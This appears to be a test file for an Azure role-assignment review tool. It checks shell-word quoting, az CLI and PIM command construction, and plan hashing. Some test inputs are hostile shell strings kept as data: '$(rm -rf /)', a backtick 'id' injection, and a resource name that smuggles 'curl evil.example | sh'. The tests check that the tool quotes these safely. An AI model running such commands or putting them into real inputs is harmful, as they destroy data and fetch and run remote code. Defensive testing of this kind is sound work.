import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { isGuid } from '../../../src/core/principal';
import { canonical, planHash, seededGuid } from '../../../src/review/plan/canonical';
import {
  createAssignmentCommand,
  deleteAssignmentCommand,
  pimCommand,
  shellWord,
} from '../../../src/review/plan/commands';
import { vmContributor } from '../support/roles';
import { pimInstance, rg } from '../support/world';

describe('shell words', () => {
  it.each([
    ['plain-1', 'plain-1'],
    ["it's", "'it'\\''s'"],
    ['$(rm -rf /)', "'$(rm -rf /)'"],
    ['`id`; id', "'`id`; id'"],
    ['-rf', "'-rf'"],
    ['', "''"],
    ['a\nb', 'ab'],
  ])('%j becomes %s', (text, word) => expect(shellWord(text)).toBe(word));

  it('a real shell reads back what went in, whatever it was', () => {
    const words = fc.sample(fc.string({ unit: 'grapheme', maxLength: 30 }), { numRuns: 200, seed: 7 });
    const clean = words.map((word) => [...word].filter((c) => c >= ' ' && c !== '\u007f').join(''));
    const out = execFileSync('/bin/sh', ['-c', `printf '%s\\n' ${words.map(shellWord).join(' ')}`], {
      encoding: 'utf8',
    });
    expect(out.split('\n').slice(0, -1)).toEqual(clean);
  });
});

describe('commands', () => {
  it('quote hostile resource names', () => {
    const id = `${rg}; curl evil.example | sh/providers/Microsoft.Authorization/roleAssignments/x`;
    expect(deleteAssignmentCommand(id)).toBe(`az role assignment delete --ids '${id}'`);
  });

  it('create with principal type and condition', () => {
    const command = createAssignmentCommand({
      scope: rg,
      name: 'n',
      roleDefinitionId: vmContributor.id,
      principalId: 'p',
      principalType: 'User',
      condition: "@Resource[x] StringEquals 'y'",
      conditionVersion: '2.0',
    });
    expect(command).toContain('--assignee-object-id p --assignee-principal-type User');
    expect(command).toContain("--condition '@Resource[x] StringEquals '\\''y'\\''' --condition-version 2.0");
  });

  it('PIM requests carry their body as one word', () => {
    const command = pimCommand(pimInstance('eligible', vmContributor, rg), 'name', 'AdminRemove', 'because');
    expect(command).toMatch(/roleEligibilityScheduleRequests\/name\?api-version=2020-10-01/);
    expect(command).toContain(`'{"properties":{"principalId":`);
  });
});

describe('the plan hash', () => {
  it('does not depend on the order of fields, and on nothing less than the content', () => {
    expect(planHash({ a: 1, b: [1, { c: 2, d: undefined }] })).toBe(planHash({ b: [1, { c: 2 }], a: 1 }));
    expect(planHash({ a: [1, 2] })).not.toBe(planHash({ a: [2, 1] }));
    expect(canonical({ b: null, a: 'x' })).toBe('{"a":"x","b":null}');
  });

  it('survives a journey through JSON', () => {
    fc.assert(fc.property(fc.jsonValue(), (value) => planHash(JSON.parse(JSON.stringify(value))) === planHash(value)));
  });

  it('seeded GUIDs are GUIDs, the same for the same seed', () => {
    expect(seededGuid('R-7', 'i1')).toBe(seededGuid('R-7', 'i1'));
    expect(seededGuid('R-7', 'i1')).not.toBe(seededGuid('R-7', 'i2'));
    expect(isGuid(seededGuid('a'))).toBe(true);
  });
});
